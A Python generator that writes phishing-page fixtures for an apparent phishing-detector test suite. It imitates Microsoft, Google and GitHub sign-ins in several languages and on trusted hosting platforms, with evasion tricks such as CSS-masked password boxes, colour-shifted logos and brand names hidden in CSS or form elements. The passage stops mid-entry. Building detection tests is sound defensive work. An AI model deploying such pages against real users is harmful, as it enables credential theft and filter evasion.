#!/usr/bin/env python3
"""Writes the fixtures of the sixth red-team round (tests/corpus/redteam6.js lists the rows):
python3 tests/corpus/gen-redteam6.py  (from the repository root)."""
import base64
import re
import os
import urllib.parse

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'fixtures')


def write(host, path, body):
    rel = urllib.parse.unquote(path.split('?')[0]).lstrip('/')
    if rel == '' or rel.endswith('/'):
        rel += 'index.html'
    elif not rel.endswith('.html'):
        rel += '.html'  # the fixture server tries `<path>.html` (so /x/Page.aspx is served as HTML)
    target = os.path.join(ROOT, host, rel)
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, 'w', encoding='utf-8') as f:
        f.write(body)


def svg_url(svg):
    return 'data:image/svg+xml;base64,' + base64.b64encode(svg.encode()).decode()


MS_COLORS = ['#f25022', '#7fba00', '#00a4ef', '#ffb900']


def ms_squares(colors=MS_COLORS, word=True):
    r, g, b, y = colors
    text = '<text x="30" y="18" font-family="Segoe UI,Arial" font-size="19" fill="#737373">Microsoft</text>' if word else ''
    width = 120 if word else 24
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="24" viewBox="0 0 {width} 24">'
            f'<rect x="0" y="0" width="11" height="11" fill="{r}"/><rect x="12" y="0" width="11" height="11" fill="{g}"/>'
            f'<rect x="0" y="12" width="11" height="11" fill="{b}"/><rect x="12" y="12" width="11" height="11" fill="{y}"/>'
            f'{text}</svg>')


GOOGLE_LETTERS = [('G', '#4285f4'), ('o', '#ea4335'), ('o', '#fbbc05'), ('g', '#4285f4'), ('l', '#34a853'), ('e', '#ea4335')]


def google_word(colors=None, size=28):
    colors = colors or [c for _, c in GOOGLE_LETTERS]
    spans = ''.join(f'<tspan fill="{c}">{l}</tspan>' for (l, _), c in zip(GOOGLE_LETTERS, colors))
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="92" height="34" viewBox="0 0 92 34">'
            f'<text x="0" y="26" font-family="Product Sans,Arial" font-size="{size}">{spans}</text></svg>')


GH_PATH = ('M8 0C3.58 0 0 3.58 0 8c0 3.54 2.29 6.53 5.47 7.59.4.07.55-.17.55-.38 0-.19-.01-.82-.01-1.49-2.01.37-2.53-.49'
           '-2.69-.94-.09-.23-.48-.94-.82-1.13-.28-.15-.68-.52-.01-.53.63-.01 1.08.58 1.23.82.72 1.21 1.87.87 2.33.66.07-.52'
           '.28-.87.51-1.07-1.78-.2-3.64-.89-3.64-3.95 0-.87.31-1.59.82-2.15-.08-.2-.36-1.02.08-2.12 0 0 .67-.21 2.2.82.64'
           '-.18 1.32-.27 2-.27.68 0 1.36.09 2 .27 1.53-1.04 2.2-.82 2.2-.82.44 1.1.16 1.92.08 2.12.51.56.82 1.27.82 2.15 0'
           ' 3.07-1.87 3.75-3.65 3.95.29.25.54.73.54 1.48 0 1.07-.01 1.93-.01 2.2 0 .21.15.46.55.38A8.013 8.013 0 0016 8c0'
           '-4.42-3.58-8-8-8z')


def gh_mark(fill='#1f2328', size=48, view='0 0 16 16'):
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="{size}" height="{size}" viewBox="{view}">'
            f'<path fill="{fill}" d="{GH_PATH}"/></svg>')


def page(title, body, style='', script='', lang='en', head=''):
    return (f'<!doctype html>\n<html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>'
            '<meta name="viewport" content="width=device-width,initial-scale=1">'
            f'{head}<style>{style}</style></head>\n<body>\n{body}\n'
            + (f'<script>\n{script}\n</script>\n' if script else '') + '</body></html>\n')


MS_STYLE = ('body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f0f4f8;color:#1b1b1b}'
            '.card{width:360px;margin:70px auto 0;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}'
            '.card h1{font-size:24px;font-weight:600;margin:16px 0 12px}'
            '.card input{display:block;width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #666;'
            'padding:6px 0;font-size:15px;margin:10px 0}'
            '.card .links{font-size:13px;color:#0067b8;margin:12px 0}'
            '.card button{background:#0067b8;color:#fff;border:0;padding:7px 34px;font-size:15px;float:right;margin-top:10px}'
            '.clear{clear:both}.foot{text-align:center;font-size:12px;color:#666;margin-top:30px}')


def ms_card(logo_html, heading, user_label, pass_label, button, links, extra='', pw_type='password',
            user_name='loginfmt', pass_name='passwd', action='/r6/collect'):
    return (f'<div class="card">{logo_html}<h1>{heading}</h1>{extra}'
            f'<form method="post" action="{action}"><input type="email" name="{user_name}" placeholder="{user_label}" '
            f'autocomplete="username"><input type="{pw_type}" name="{pass_name}" placeholder="{pass_label}" '
            f'autocomplete="current-password"><div class="links">{links}</div><button type="submit">{button}</button>'
            '<div class="clear"></div></form></div>')


G_STYLE = ('body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f0f4f9;color:#1f1f1f}'
           '.card{width:420px;margin:70px auto 0;background:#fff;border-radius:28px;padding:36px 40px}'
           '.card h1{font-size:32px;font-weight:400;margin:18px 0 8px}.card p{margin:0 0 24px;font-size:15px}'
           '.card input{display:block;width:100%;box-sizing:border-box;border:1px solid #747775;border-radius:4px;'
           'padding:14px;font-size:16px;margin:12px 0}.card .row{display:flex;justify-content:space-between;align-items:center;'
           'margin-top:24px}.card a{color:#0b57d0;font-size:14px;text-decoration:none}'
           '.card button{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-size:14px}')


def g_card(logo_html, heading, sub, user_label, pass_label, button, forgot, extra=''):
    return (f'<div class="card">{logo_html}<h1>{heading}</h1><p>{sub}</p>{extra}'
            f'<form method="post" action="/r6/collect"><input type="email" name="identifier" placeholder="{user_label}">'
            f'<input type="password" name="Passwd" placeholder="{pass_label}"><div class="row"><a href="#">{forgot}</a>'
            f'<button type="submit">{button}</button></div></form></div>')


GH_STYLE = ('body{margin:0;font-family:-apple-system,"Segoe UI",Helvetica,Arial,sans-serif;background:#f6f8fa;color:#1f2328}'
            '.wrap{width:340px;margin:40px auto 0;text-align:center}.wrap h1{font-size:24px;font-weight:300;margin:20px 0 14px}'
            '.box{background:#fff;border:1px solid #d1d9e0;border-radius:6px;padding:20px;text-align:left;font-size:14px}'
            '.box label{display:block;margin:0 0 6px}.box input{display:block;width:100%;box-sizing:border-box;'
            'border:1px solid #d1d9e0;border-radius:6px;padding:6px 10px;font-size:14px;margin:0 0 16px}'
            '.box button{width:100%;background:#1f883d;color:#fff;border:0;border-radius:6px;padding:7px;font-size:14px}'
            '.more{border:1px solid #d1d9e0;border-radius:6px;padding:14px;margin-top:16px;font-size:14px}')


def gh_card(logo_html, heading, user_label, pass_label, button, more, extra='', user_id='login_field', user_name='login'):
    return (f'<div class="wrap">{logo_html}<h1>{heading}</h1>{extra}<div class="box"><form method="post" action="/r6/session">'
            f'<label for="{user_id}">{user_label}</label><input type="text" id="{user_id}" name="{user_name}">'
            f'<label for="password">{pass_label}</label><input type="password" id="password" name="password">'
            f'<button type="submit">{button}</button></form></div><div class="more">{more}</div></div>')


def img(svg, alt='', style=''):
    return f'<img src="{svg_url(svg)}" alt="{alt}" style="{style}">'


# --- sources (public write-ups) -------------------------------------------------------------------------
S = {
    'es': 'https://antiphishing.biz/2022/03/07/microsoft-phishing-page-in-spanish-detected/',
    'loc': 'https://cyberdudebivash-news.blogspot.com/2025/10/how-to-spot-new-microsoft-logo-scam.html',
    'devlogin': 'https://lwst.io/en/posts/microsoft-entra-device-code-phishing/',
    'storm2372': 'https://jokerchen.me/en-us/security/blog/2025/02/13/storm-2372-conducts-device-code-phishing-campaign',
    'dyn': 'https://sublime.security/feeds/core/detection-rules/link-microsoft-dynamics-365-form-phishing-f72b9085',
    'forms': 'https://learn.microsoft.com/en-us/microsoft-forms/review-unblock-forms-users-detected-blocked-potential-phishing',
    'formtext': 'https://www.indelibledata.co.uk/scamming/phishing-alert/',
    'platform': 'https://www.ditmsecurity.com/blog/platform-phishing.html',
    'sites': 'https://radiotamaleonline.com/blog/2025/05/22/gmail-ssers-at-risk-new-phishing-scam-masquerades-as-official-google-email',
    'sites2': 'https://www.itbrew.com/stories/2025/04/30/google-restricts-app-name-parameters-in-response-to-sophisticated-phishing-attack',
    'gcloud': 'https://slashnext.com/blog/google-cloud-under-siege/',
    'appscript': 'https://cloud.tencent.cn/developer/article/2591801',
    'ipfs': 'https://www.spamtitan.com/web-filtering/cloudflare-ipfs-gateway-phishing-forms-fool-users-with-valid-ssl-certificates/',
    'ipfs2': 'https://mailsleuth.ai/blog/phishings-new-maze-tracing-attacks-through-cdns-ipfs-and-apis',
    'cfdev': 'https://landian.news/article/4390.html',
    'cfdev2': 'https://www.excedo.se/en/blog-articles/cloudflares-abuse-blind-spot-when-scale-outweighs-safety',
    'azweb': 'https://cyberbivash.blogspot.com/2025/10/why-your-microsoft-365-login-is-at-risk.html',
    'azblob': 'https://www.mailguard.com.au/blog/phishing-email-scam-hosts-fake-page-on-microsoft-azure-blob-store',
    'spo': 'https://www.netsec.news/sharepoint-files-used-to-harvest-office-365-credentials/',
    'spo2': 'https://ironscales.com/threat-intelligence/compromised-m365-sharepoint-share-clean-scanner-credential-harvest',
    'translate': 'https://www.kaspersky.com/blog/google-translate-scheme/46377/',
    'translate2': 'https://www.zdnet.com/article/hacker-group-uses-google-translate-to-hide-phishing-sites/',
    'oauth': 'https://nineliveszerotrust.com/blog/oauth-redirect-abuse-sentinel/',
    'oauth2': 'https://www.imtr.net/article/phishing-with-oauth-redirect-9c80',
    'oauth3': 'https://isthismailsafe.com/blog/oauth-phishing-attacks',
    'logo': 'https://www.vadesecure.com/en/blog/detecting-logos-in-phishing-attacks',
    'visual': 'https://arxiv.org/html/2405.19598v2',
    'cssobf': 'https://www.cybertalk.org/2021/11/11/this-tiny-font-phishing-campaign-could-fool-your-o365-email-filters/',
    'tycoon': 'https://samurai.by.security.ntt/post/threat-report-by-ntt-security-tycoon-2fa-a-trending-phishing-kit',
    'tycoon2': 'https://detection.fyi/sublime-security/sublime-rules/link_tycoon',
    'fullscreen': 'https://skillaudit.dev/seo/mcp-server-fullscreen-api-security',
    'fullscreen2': 'https://lists.w3.org/Archives/Public/public-webapps/2012OctDec/0160.html',
    'github': 'https://news.sophos.com/en-us/2020/04/17/github-users-targetted-by-sawfish-phishing-campaign',
    'picker': 'https://www.hoax-slayer.net/watch-out-for-shared-document-phishing-scam-emails/',
    'sway': 'https://la-cyber.com/Current-Threat-Data.php?id=3192',
    'sway2': 'https://www.rsbiowa.com/information-center/privacy-security/scam-of-the-week-cybercriminals-are-using-microsofts-sway-application-in-phishing-scams/',
    'formsml': 'https://sublime.security/feeds/core/detection-rules/link-multistage-landing-microsoft-forms-abuse-85a2cd12',
}

ROWS = []


def row(name, host, path, expect, provider, family, trick, what, sources, body, **extra):
    write(host, path, body)
    r = {'name': name, 'host': host, 'path': path, 'expect': expect}
    if provider:
        r['provider'] = provider
    r.update({'family': family, 'trick': trick, 'what': what, 'source': [S[s] for s in sources]})
    r.update(extra)
    ROWS.append(r)


MS_LOGO = img(ms_squares(), 'Microsoft')
G_LOGO = img(google_word(), 'Google')
GH_LOGO = img(gh_mark(), 'GitHub')

# === 1. localized kits =====================================================================================
row('de-microsoft-anmelden', 'rechnungsportal-hoffmann.de', '/dokument/ansicht', 'danger', 'microsoft', 'localized',
    'German Microsoft 365 sign-in ("Anmelden", "Kennwort") on a neutral host',
    'German kit: "Anmelden" with the Microsoft logo, E-Mail and Kennwort', ['loc', 'es'],
    page('Bei Ihrem Konto anmelden', ms_card(MS_LOGO, 'Anmelden',
         'E-Mail, Telefon oder Skype', 'Kennwort', 'Anmelden',
         'Sie können nicht auf Ihr Konto zugreifen?<br>Kennwort vergessen?',
         extra='<p style="font-size:14px">Melden Sie sich mit Ihrem Microsoft 365-Konto an, um die freigegebene Rechnung anzuzeigen.</p>')
         + '<div class="foot">Nutzungsbedingungen&nbsp;&nbsp;Datenschutz und Cookies</div>', MS_STYLE, lang='de'))

row('fr-google-connexion', 'espace-partage-notaire.fr', '/acces', 'danger', 'google', 'localized',
    'French Google sign-in ("Connexion", "Mot de passe")',
    'French kit: "Connexion" with the Google wordmark and Mot de passe', ['loc', 'sites'],
    page('Connexion - Comptes Google', g_card(G_LOGO, 'Connexion', 'Utilisez votre compte Google',
         'Adresse e-mail ou téléphone', 'Saisissez votre mot de passe', 'Suivant', 'Adresse e-mail oubliée ?'),
         G_STYLE, lang='fr'))

row('es-github-iniciar-sesion', 'repositorio-equipo-dev.es', '/login', 'danger', 'github', 'localized',
    'Spanish GitHub sign-in ("Iniciar sesión en GitHub", "Contraseña")',
    'Spanish kit: "Iniciar sesión en GitHub" with the mark and Contraseña', ['es', 'github'],
    page('Iniciar sesión en GitHub', gh_card(GH_LOGO, 'Iniciar sesión en GitHub',
         'Nombre de usuario o dirección de correo electrónico', 'Contraseña', 'Iniciar sesión',
         '¿Nuevo en GitHub? <a href="#">Crear una cuenta</a>'), GH_STYLE, lang='es'))

row('pt-onedrive-entrar', 'arquivos-compartilhados-contabil.com.br', '/ver', 'danger', 'microsoft', 'localized',
    'Brazilian Portuguese OneDrive share lure with a Microsoft "Entrar" form ("Senha")',
    'Portuguese kit: "Entrar" / "Senha" for a OneDrive file shared with you', ['loc', 'spo'],
    page('Entrar na sua conta', ms_card(MS_LOGO, 'Entrar', 'Email, telefone ou Skype', 'Senha', 'Entrar',
         'Não consegue acessar sua conta?',
         extra='<p style="font-size:14px">Um arquivo do OneDrive foi compartilhado com você. Entre para visualizar.</p>'),
         MS_STYLE, lang='pt-BR'))

row('ja-microsoft-katakana', 'kyoyu-shorui-box.jp', '/signin', 'danger', 'microsoft', 'localized',
    'Japanese sign-in: brand only as katakana マイクロソフト, logo squares without the wordmark',
    'Japanese kit: "サインイン" with the four squares and マイクロソフト アカウント, パスワード', ['loc'],
    page('サインイン', ms_card(img(ms_squares(word=False), ''), 'サインイン', 'メール、電話、Skype', 'パスワード', 'サインイン',
         'アカウントにアクセスできない場合',
         extra='<p style="font-size:14px">マイクロソフト アカウントでサインインして、共有ドキュメントを表示します。</p>'),
         MS_STYLE, lang='ja'))

row('ja-google-login', 'docs-kakunin-center.jp', '/login', 'danger', 'google', 'localized',
    'Japanese Google sign-in ("ログイン", "Google アカウント", "パスワードを入力")',
    'Japanese kit: "ログイン" for a Google アカウント with the wordmark', ['loc', 'gcloud'],
    page('ログイン - Google アカウント', g_card(G_LOGO, 'ログイン', 'Google アカウントを使用',
         'メールアドレスまたは電話番号', 'パスワードを入力', '次へ', 'メールアドレスを忘れた場合'), G_STYLE, lang='ja'))

# === 2. anyone's-content hosts ==============================================================================
FORMS_STYLE = ('body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#e8f0f0}'
               '.banner{height:120px;background:#038387}.form{width:640px;margin:-60px auto 0;background:#fff;padding:30px 40px;'
               'box-shadow:0 1px 4px rgba(0,0,0,.2)}.q{margin:22px 0}.q label{display:block;font-size:15px;margin-bottom:8px}'
               '.q input{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #999;padding:8px 0;font-size:15px}'
               '.masked{-webkit-text-security:disc}button{background:#038387;color:#fff;border:0;padding:8px 28px;font-size:15px}'
               '.small{font-size:12px;color:#666;margin-top:20px}')

row('forms-office-css-masked', 'forms.office.com', '/r6/Pages/ResponsePage.aspx', 'danger', 'microsoft', 'content-host',
    'Microsoft Forms "Microsoft 365 re-validation": the password question is a text box masked by -webkit-text-security',
    'Forms survey asking the Microsoft 365 password in a CSS-masked text box', ['forms', 'formtext', 'platform'],
    page('Microsoft 365 account re-validation', '<div class="banner"></div><div class="form">' + MS_LOGO +
         '<h1 style="font-weight:600;font-size:22px">Microsoft 365 mailbox re-validation</h1>'
         '<p>Your Outlook mailbox will be disabled today. Sign in with your Microsoft account below to keep it.</p>'
         '<div class="q"><label>1. Work email address</label><input type="text" name="r1"></div>'
         '<div class="q"><label>2. Microsoft 365 password</label><input type="text" class="masked" name="r2" autocomplete="off"></div>'
         '<button>Submit</button><div class="small">Never give out your password. Microsoft Forms</div></div>', FORMS_STYLE))

row('customervoice-signin', 'customervoice.microsoft.com', '/r6/Pages/ResponsePage.aspx', 'danger', 'microsoft', 'content-host',
    'Dynamics 365 Customer Voice survey laid out as a Microsoft sign-in with a password field',
    'Customer Voice survey that is a Microsoft "Sign in" card', ['dyn', 'forms'],
    page('Sign in to your account', ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in',
         "Can't access your account?", extra='<p style="font-size:14px">Sign in to review the secure message shared with you.</p>')
         + '<div class="foot">Powered by Dynamics 365 Customer Voice</div>', MS_STYLE))

GFORM_STYLE = ('body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f0ebf8}.top{height:10px;background:#673ab7;width:640px;'
               'margin:12px auto 0;border-radius:8px 8px 0 0}.card{width:592px;margin:0 auto 12px;background:#fff;border-radius:0 0 8px 8px;'
               'padding:24px}.q{background:#fff;width:592px;margin:12px auto;border-radius:8px;padding:24px}.q input{border:0;'
               'border-bottom:1px solid #ccc;width:60%;padding:6px 0;font-size:14px}button{background:#673ab7;color:#fff;border:0;'
               'border-radius:4px;padding:9px 24px}')

row('gforms-google-password', 'docs.google.com', '/forms/d/e/1FAIpQLSr6accountcheck/viewform', 'danger', 'google', 'content-host',
    'Google Form "Google Workspace storage upgrade" asking the Gmail address and the Google password',
    'Google Form asking the Google account password', ['platform', 'gcloud'],
    page('Google Account verification', '<div class="top"></div><div class="card">' + G_LOGO +
         '<h1 style="font-weight:400">Google Workspace storage upgrade</h1><p>Sign in with your Google Account to keep your Gmail and Drive files.</p></div>'
         '<div class="q"><div>Gmail address *</div><input type="email" name="entry.1"></div>'
         '<div class="q"><div>Google Account password *</div><input type="password" name="entry.2"></div>'
         '<div style="width:640px;margin:auto"><button>Submit</button></div>', GFORM_STYLE))

row('gsites-google-signin', 'sites.google.com', '/view/r6-legal-support-case/home', 'danger', 'google', 'content-host',
    'Google Sites "support case" page with a Google sign-in card (the 2025 subpoena lure)',
    'Google Sites page with a "Sign in" card for the Google Account', ['sites', 'sites2'],
    page('Google Support - Case review', '<div style="background:#fff;padding:10px 24px;border-bottom:1px solid #ddd">Support Case #4417-2025</div>'
         + g_card(G_LOGO, 'Sign in', 'to continue to your case documents', 'Email or phone', 'Enter your password', 'Next',
                  'Forgot email?'), G_STYLE))

row('apps-script-frame-microsoft', 'script.google.com', '/macros/s/AKfycbR6docview/exec', 'danger', 'microsoft', 'content-host',
    'Apps Script web app: script.google.com frames a *.script.googleusercontent.com sandbox that draws a Microsoft sign-in',
    'Apps Script web app whose sandbox frame is a Microsoft sign-in', ['appscript', 'gcloud'],
    page('Shared document', '<iframe src="https://n-r6ab2cdq-0lu-script.googleusercontent.com/userCodeAppPanel" '
         'style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>',
         'body{margin:0}'))
write('n-r6ab2cdq-0lu-script.googleusercontent.com', '/userCodeAppPanel',
      page('Sign in to your account', ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in',
           "Can't access your account?", extra='<p style="font-size:14px">Sign in with Microsoft to open the PDF.</p>'), MS_STYLE))

row('github-io-copilot-seat', 'copilot-seat-activation.github.io', '/enterprise/', 'danger', 'github', 'content-host',
    'GitHub Pages site "activate your Copilot Enterprise seat" with a GitHub sign-in form',
    'github.io page asking the GitHub password for a Copilot seat', ['oauth', 'github'],
    page('Sign in to GitHub · Copilot', gh_card(GH_LOGO, 'Sign in to GitHub', 'Username or email address', 'Password', 'Sign in',
         'Your organization assigned you a <b>GitHub Copilot Enterprise</b> seat. Sign in to activate it.'), GH_STYLE))

row('sharepoint-page-signin', 'contosobuild-my.sharepoint.com', '/personal/r6_contosobuild_com/SitePages/Remittance.aspx', 'danger',
    'microsoft', 'content-host',
    'SharePoint site page with a Microsoft 365 sign-in card (OneDrive remittance lure)',
    'SharePoint page that is a Microsoft sign-in', ['spo', 'spo2'],
    page('Remittance - OneDrive', '<div style="background:#036c70;color:#fff;padding:10px 20px">SharePoint</div>' +
         ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in', "Can't access your account?",
                 extra='<p style="font-size:14px">Verify your identity to open "Remittance_0931.pdf" in OneDrive.</p>'), MS_STYLE))

row('translate-goog-proxy', 'secure-docviewer-net.translate.goog', '/owa/', 'danger', 'microsoft', 'content-host',
    'Outlook Web App copy behind a Google Translate proxy host (*.translate.goog)',
    'Google Translate proxy of an Outlook sign-in', ['translate', 'translate2'],
    page('Outlook', '<div style="background:#fff;border-bottom:1px solid #ddd;padding:6px 12px;font:13px Arial">'
         'Google Translate &nbsp; Original language: English &nbsp;|&nbsp; Translated to: English</div>' +
         ms_card(MS_LOGO, 'Outlook', 'Email, phone, or Skype', 'Password', 'Sign in', 'Forgot my password',
                 extra='<p style="font-size:14px">Sign in to Outlook Web Access to read your messages.</p>'), MS_STYLE))

IPFS_CID = 'bafybeigr6x4kq7v2m3uo5ttq6i7wzmnb4l2d3jvapyqz6u3csfhn7xkd4e'
row('ipfs-io-outlook', 'ipfs.io', f'/ipfs/{IPFS_CID}/', 'danger', 'microsoft', 'content-host',
    'Office 365 sign-in pinned on IPFS, opened through the ipfs.io path gateway',
    'IPFS gateway (ipfs.io/ipfs/<cid>) Office 365 sign-in', ['ipfs', 'ipfs2'],
    page('Sign in to Office 365', ms_card(MS_LOGO, 'Sign in', 'someone@example.com', 'Password', 'Sign in',
         "Can't access your account?", extra='<p style="font-size:14px">Office 365: sign in to view the shared invoice.</p>'), MS_STYLE))

row('dweb-link-google', f'{IPFS_CID}.ipfs.dweb.link', '/', 'danger', 'google', 'content-host',
    'Google sign-in pinned on IPFS, opened through a subdomain gateway (<cid>.ipfs.dweb.link)',
    'IPFS subdomain gateway Google sign-in', ['ipfs', 'ipfs2'],
    page('Sign in - Google Accounts', g_card(G_LOGO, 'Sign in', 'Use your Google Account', 'Email or phone',
         'Enter your password', 'Next', 'Forgot email?'), G_STYLE))

row('r2-dev-onedrive', 'pub-7f3c9a1e4b2d48e6a5c0d9b8e7f6a5b4.r2.dev', '/share/view.html', 'danger', 'microsoft', 'content-host',
    'OneDrive "shared file" sign-in on a public Cloudflare R2 bucket (pub-<hash>.r2.dev)',
    'R2 bucket page with a OneDrive / Microsoft sign-in', ['cfdev', 'ipfs2'],
    page('OneDrive - Sign in', ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in',
         "Can't access your account?", extra='<p style="font-size:14px">OneDrive: 3 files were shared with you.</p>'), MS_STYLE))

row('pages-dev-github', 'gh-security-review.pages.dev', '/login', 'danger', 'github', 'content-host',
    'GitHub sign-in on a Cloudflare Pages host (security-review lure)',
    'pages.dev GitHub sign-in', ['cfdev', 'cfdev2', 'github'],
    page('Sign in to GitHub', gh_card(GH_LOGO, 'Sign in to GitHub', 'Username or email address', 'Password', 'Sign in',
         'Unusual activity was found in your repositories. Sign in to review.'), GH_STYLE))

row('azure-web-static-m365', 'm365docshare01.z13.web.core.windows.net', '/signin/index.html', 'danger', 'microsoft', 'content-host',
    'Microsoft 365 sign-in on an Azure Storage static website (*.z13.web.core.windows.net)',
    'Azure static website with a Microsoft 365 sign-in', ['azweb', 'azblob'],
    page('Sign in to your account', ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in',
         "Can't access your account?"), MS_STYLE))

row('gcs-bucket-google', 'storage.googleapis.com', '/r6-drive-share-7731/index.html', 'danger', 'google', 'content-host',
    'Google Drive sign-in in a public Cloud Storage bucket (storage.googleapis.com/<bucket>/)',
    'Cloud Storage bucket page with a Google sign-in', ['gcloud'],
    page('Google Drive - Sign in', g_card(G_LOGO, 'Sign in', 'to continue to Google Drive', 'Email or phone',
         'Enter your password', 'Next', 'Forgot email?'), G_STYLE))

row('firebaseapp-microsoft', 'mail-quota-r6.firebaseapp.com', '/', 'danger', 'microsoft', 'content-host',
    'Outlook mailbox-quota sign-in on a Firebase Hosting app (*.firebaseapp.com)',
    'firebaseapp.com Outlook sign-in', ['gcloud', 'appscript'],
    page('Outlook - Mailbox quota', ms_card(MS_LOGO, 'Sign in', 'Email, phone, or Skype', 'Password', 'Sign in',
         "Can't access your account?", extra='<p style="font-size:14px">Your Outlook mailbox is full. Sign in to get 50 GB more.</p>'),
         MS_STYLE))

# === 3. what is drawn differs from what is stored ===========================================================
def invert(c):
    v = int(c[1:], 16)
    return '#%06x' % (0xffffff - v)


def hue_matrix(deg):
    import math
    a = math.radians(deg)
    c, s = math.cos(a), math.sin(a)
    return [[0.213 + c * 0.787 - s * 0.213, 0.715 - c * 0.715 - s * 0.715, 0.072 - c * 0.072 + s * 0.928],
            [0.213 - c * 0.213 + s * 0.143, 0.715 + c * 0.285 + s * 0.140, 0.072 - c * 0.072 - s * 0.283],
            [0.213 - c * 0.213 - s * 0.787, 0.715 - c * 0.715 + s * 0.715, 0.072 + c * 0.928 + s * 0.072]]


def hue(c, deg):
    v = [int(c[i:i + 2], 16) for i in (1, 3, 5)]
    m = hue_matrix(deg)
    out = [max(0, min(255, round(sum(m[r][k] * v[k] for k in range(3))))) for r in range(3)]
    return '#%02x%02x%02x' % tuple(out)


PLAIN_MS = ('Email or phone', 'Password', 'Next', "Can't access your account?")

row('ms-logo-inverted', 'secure-fileview-portal.com', '/s/4f1c', 'danger', 'microsoft', 'drawn-vs-stored',
    'Microsoft four-square logo stored in complementary colours, shown true by CSS filter: invert(1); no brand word',
    'logo stored inverted, corrected by filter:invert(1); the page text names no brand', ['logo', 'visual'],
    page('Sign in', ms_card(img(ms_squares([invert(c) for c in MS_COLORS], word=False), '', 'filter:invert(1)'),
         'Sign in', *PLAIN_MS), MS_STYLE))

G_STORED = [hue(c, -120) for _, c in GOOGLE_LETTERS]
row('google-wordmark-hue-rotate', 'drive-preview-center.net', '/file/d/9xk2', 'danger', 'google', 'drawn-vs-stored',
    'Google wordmark stored hue-shifted by -120deg and shown by CSS filter: hue-rotate(120deg); no brand word in text',
    'wordmark image stored in wrong colours, corrected by hue-rotate', ['logo', 'visual'],
    page('Sign in', g_card(img(google_word(G_STORED), '', 'filter:hue-rotate(120deg)'), 'Sign in', 'Use your account',
         'Email or phone', 'Enter your password', 'Next', 'Forgot email?'), G_STYLE))

tiles = ''.join(
    f'<img src="{svg_url(gh_mark(size=24, view=f"{x} {y} 8 8"))}" alt="" style="display:block;width:24px;height:24px">'
    for y in (0, 8) for x in (0, 8))
row('github-mark-tiles', 'repo-access-review.dev', '/session/new', 'danger', 'github', 'drawn-vs-stored',
    'GitHub mark cut into four 8x8 tiles laid out in a 2x2 grid; the page text names no brand',
    'GitHub mark drawn from four tile images', ['logo', 'visual', 'github'],
    page('Sign in', gh_card('<div style="display:grid;grid-template-columns:24px 24px;width:48px;margin:auto">' + tiles + '</div>',
         'Sign in to continue', 'Username or email address', 'Password', 'Sign in', 'New here? <a href="#">Create an account</a>'),
         GH_STYLE))

row('github-mark-mask-image', 'code-review-hub.app', '/login', 'danger', 'github', 'drawn-vs-stored',
    'GitHub mark drawn by a plain div: background colour through CSS mask-image of the mark; no image, no brand word',
    'logo drawn by mask-image on a coloured div', ['logo', 'visual'],
    page('Sign in', gh_card(f'<div style="width:48px;height:48px;margin:auto;background:#1f2328;'
         f'-webkit-mask-image:url({svg_url(gh_mark())});mask-image:url({svg_url(gh_mark())});mask-size:48px 48px"></div>',
         'Sign in to continue', 'Username or email address', 'Password', 'Sign in', 'New here? <a href="#">Create an account</a>'),
         GH_STYLE))

row('ms-brand-content-attr', 'payroll-notice-center.com', '/account', 'danger', 'microsoft', 'drawn-vs-stored',
    'brand words drawn only by CSS content: attr(data-b) (DOM text is empty), Microsoft sign-in layout and squares',
    '"Sign in to your Microsoft account": the brand exists only in data- attributes drawn by ::before', ['cssobf', 'logo'],
    page('Sign in', ms_card(img(ms_squares(word=False)) + ' <span class="b" data-b="Microsoft" style="font-size:19px;color:#737373;vertical-align:top"></span>',
         'Sign in to your <span class="b" data-b="Microsoft"></span> account', 'Email or phone', 'Password', 'Next',
         'Forgot your <span class="b" data-b="Outlook"></span> password?'),
         MS_STYLE + '.b::before{content:attr(data-b)}'))

row('google-brand-input-value', 'account-recovery-desk.net', '/v3/signin', 'danger', 'google', 'drawn-vs-stored',
    'brand only in readonly <input value> boxes styled as the heading and subheading ("Google", "Use your Google Account")',
    'brand stored as input values, styled as page text', ['cssobf'],
    page('Sign in', g_card('<input readonly value="Google" tabindex="-1" style="border:0;font-size:26px;color:#4285f4;padding:0;margin:0;width:120px;outline:0">',
         'Sign in', '<input readonly tabindex="-1" value="Use your Google Account" style="border:0;font-size:15px;padding:0;margin:0;width:300px;outline:0">',
         'Email or phone', 'Enter your password', 'Next', 'Forgot email?'), G_STYLE))

row('github-brand-select', 'org-invite-accept.dev', '/login', 'danger', 'github', 'drawn-vs-stored',
    'brand only as the selected <option> of a disabled <select> with no arrow, read as "Sign in to GitHub"',
    'brand stored in a <select>, drawn as heading text', ['cssobf', 'github'],
    page('Sign in', gh_card(GH_LOGO, 'Sign in to <select disabled style="appearance:none;border:0;background:none;font:inherit;color:inherit;padding:0">'
         '<option>GitHub</option></select>', 'Username or email address', 'Password', 'Sign in',
         'You were invited to join an organization.'), GH_STYLE))

# === 4. top layer and late reveal ===========================================================================
DOC_BG = ('<div style="filter:blur(5px);padding:40px;font:15px Georgia">' +
          '<h2>Q3 Payment Schedule</h2>' + '<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit. ' * 30 + '</p></div>')

row('dialog-showmodal-microsoft', 'invoice-preview-room.com', '/doc/88213', 'danger', 'microsoft', 'top-layer',
    'Microsoft sign-in inside a <dialog> opened with showModal() over a blurred document (top layer, ::backdrop)',
